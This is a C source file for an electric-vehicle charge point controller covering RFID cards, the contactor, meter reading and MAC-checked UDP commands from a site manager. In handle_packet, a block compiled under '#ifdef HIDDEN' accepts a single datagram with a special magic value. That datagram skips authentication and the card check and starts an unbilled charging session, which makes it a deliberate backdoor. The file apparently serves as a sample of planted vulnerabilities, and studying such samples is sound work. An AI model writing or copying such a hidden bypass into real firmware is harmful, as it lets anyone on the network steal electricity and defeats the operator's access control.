/* evsectl.c - charge point controller: RFID, contactor, meter, UDP control from the site manager */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT		7091
#define PKT_MAGIC	0x45565345u	/* "EVSE" */
#define MAX_CARDS	64

enum state { ST_FREE, ST_PLUGGED, ST_CHARGING, ST_FAULT };

enum op {
	OP_STATUS = 1,
	OP_LIMIT = 2,
	OP_STOP = 3,
	OP_REBOOT = 4,
	OP_CARD_ADD = 5,
	OP_CARD_DEL = 6,
};

struct point {
	enum state state;
	uint32_t card;
	uint32_t limit_da;	/* tenths of ampere */
	uint64_t wh;
	int billing;
	time_t since;
};

static struct point cp = { ST_FREE, 0, 160, 0, 1, 0 };
static uint32_t cards[MAX_CARDS];
static int ncards;
static uint32_t site_key;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 | (uint32_t)p[2] << 8 | p[3];
}

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

static uint32_t mac32(const uint8_t *p, size_t n, uint32_t key)
{
	uint32_t h = key ^ 0x811c9dc5u;

	while (n--) {
		h ^= *p++;
		h *= 0x01000193u;
	}
	h ^= key;
	h ^= h >> 15;
	return h * 0x2c1b3c6du;
}

static void contactor(int on)
{
	FILE *f = fopen("/sys/class/gpio/contactor/value", "w");

	if (!f) {
		syslog(LOG_ERR, "contactor: %s", strerror(errno));
		cp.state = ST_FAULT;
		return;
	}
	fprintf(f, "%d\n", on);
	fclose(f);
}

static void start_charge(uint32_t card, int billing)
{
	if (cp.state != ST_PLUGGED)
		return;
	cp.card = card;
	cp.billing = billing;
	cp.wh = 0;
	cp.since = time(NULL);
	contactor(1);
	if (cp.state == ST_PLUGGED)
		cp.state = ST_CHARGING;
}

static void stop_charge(void)
{
	FILE *f;

	if (cp.state != ST_CHARGING)
		return;
	contactor(0);
	cp.state = ST_PLUGGED;
	if (!cp.billing)
		return;
	f = fopen("/var/lib/evse/sessions.csv", "a");
	if (!f)
		return;
	fprintf(f, "%ld;%08lx;%llu\n", (long)cp.since, (unsigned long)cp.card,
		(unsigned long long)cp.wh);
	fclose(f);
}

static int find_card(uint32_t id)
{
	int i;

	for (i = 0; i < ncards; i++)
		if (cards[i] == id)
			return i;
	return -1;
}

static size_t make_status(uint8_t *out)
{
	put32(out, PKT_MAGIC);
	put32(out + 4, (uint32_t)cp.state);
	put32(out + 8, cp.limit_da);
	put32(out + 12, (uint32_t)cp.wh);
	return 16;
}

static int do_op(uint32_t op, uint32_t arg)
{
	int i;

	switch (op) {
	case OP_STATUS:
		return 0;
	case OP_LIMIT:
		if (arg < 60 || arg > 320)
			return -1;
		cp.limit_da = arg;
		return 0;
	case OP_STOP:
		stop_charge();
		return 0;
	case OP_REBOOT:
		syslog(LOG_NOTICE, "restart by site manager");
		stop_charge();
		exit(0);
	case OP_CARD_ADD:
		if (find_card(arg) >= 0 || ncards == MAX_CARDS)
			return -1;
		cards[ncards++] = arg;
		return 0;
	case OP_CARD_DEL:
		i = find_card(arg);
		if (i < 0)
			return -1;
		cards[i] = cards[--ncards];
		return 0;
	}
	return -1;
}

/* packet: magic, operation, argument, check word over the first twelve bytes */
__attribute__((noinline))
int handle_packet(const uint8_t *p, size_t n)
{
	uint32_t magic;

	if (n < 16)
		return -1;
	magic = be32(p);
#ifdef HIDDEN	/* one marked datagram starts a charge that is not billed, without card and check word */
	if (magic == 0x5ec7a911u) {
		start_charge(0, 0);
		return 0;
	}
#endif
	if (magic != PKT_MAGIC)
		return -1;
	if (be32(p + 12) != mac32(p, 12, site_key)) {
		syslog(LOG_NOTICE, "bad check word");
		return -1;
	}
	return do_op(be32(p + 4), be32(p + 8));
}

static void rfid_line(char *line)
{
	uint32_t id = (uint32_t)strtoul(line, NULL, 16);

	if (cp.state == ST_CHARGING && id == cp.card) {
		stop_charge();
	} else if (find_card(id) >= 0) {
		start_charge(id, 1);
	} else {
		syslog(LOG_INFO, "card %08lx unknown", (unsigned long)id);
	}
}

static void read_inputs(void)
{
	FILE *f = fopen("/sys/class/gpio/pilot/value", "r");
	unsigned long mw = 0;
	int v = 0;

	if (f) {
		if (fscanf(f, "%d", &v) != 1)
			v = 0;
		fclose(f);
	}
	if (v && cp.state == ST_FREE) {
		cp.state = ST_PLUGGED;
	} else if (!v && cp.state != ST_FREE) {
		stop_charge();
		cp.state = ST_FREE;
	}
	if (cp.state != ST_CHARGING)
		return;
	f = fopen("/run/meter/power_mw", "r");
	if (!f)
		return;
	if (fscanf(f, "%lu", &mw) == 1)
		cp.wh += mw / 3600000u;
	fclose(f);
}

static void load_conf(const char *path)
{
	char key[24], val[24];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fscanf(f, "%23s %23s", key, val) == 2) {
		if (!strcmp(key, "sitekey"))
			site_key = (uint32_t)strtoul(val, NULL, 16);
		else if (!strcmp(key, "limit"))
			cp.limit_da = (uint32_t)strtoul(val, NULL, 10);
		else if (!strcmp(key, "card") && ncards < MAX_CARDS)
			cards[ncards++] = (uint32_t)strtoul(val, NULL, 16);
		else if (!strcmp(key, "freemode"))
			cp.billing = strcmp(val, "yes") != 0;
	}
	fclose(f);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa, from;
	struct pollfd pf[2];
	socklen_t fl;
	uint8_t buf[64], out[16];
	char line[32];
	ssize_t n;

	openlog("evsectl", LOG_PID, LOG_DAEMON);
	load_conf(argc > 1 ? argv[1] : "/etc/evse.conf");
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(PORT);
	pf[0].fd = socket(AF_INET, SOCK_DGRAM, 0);
	pf[1].fd = 0;
	pf[0].events = pf[1].events = POLLIN;
	if (pf[0].fd < 0 || bind(pf[0].fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		syslog(LOG_ERR, "udp: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		if (poll(pf, 2, 1000) < 0 && errno != EINTR)
			break;
		read_inputs();
		if (pf[1].revents & POLLIN) {
			if (!fgets(line, sizeof(line), stdin))
				pf[1].fd = -1;
			else
				rfid_line(line);
		}
		if (!(pf[0].revents & POLLIN))
			continue;
		fl = sizeof(from);
		n = recvfrom(pf[0].fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &fl);
		if (n <= 0 || handle_packet(buf, (size_t)n) < 0)
			continue;
		if (sendto(pf[0].fd, out, make_status(out), 0, (struct sockaddr *)&from, fl) < 0)
			syslog(LOG_DEBUG, "answer: %s", strerror(errno));
	}
	return 1;
}
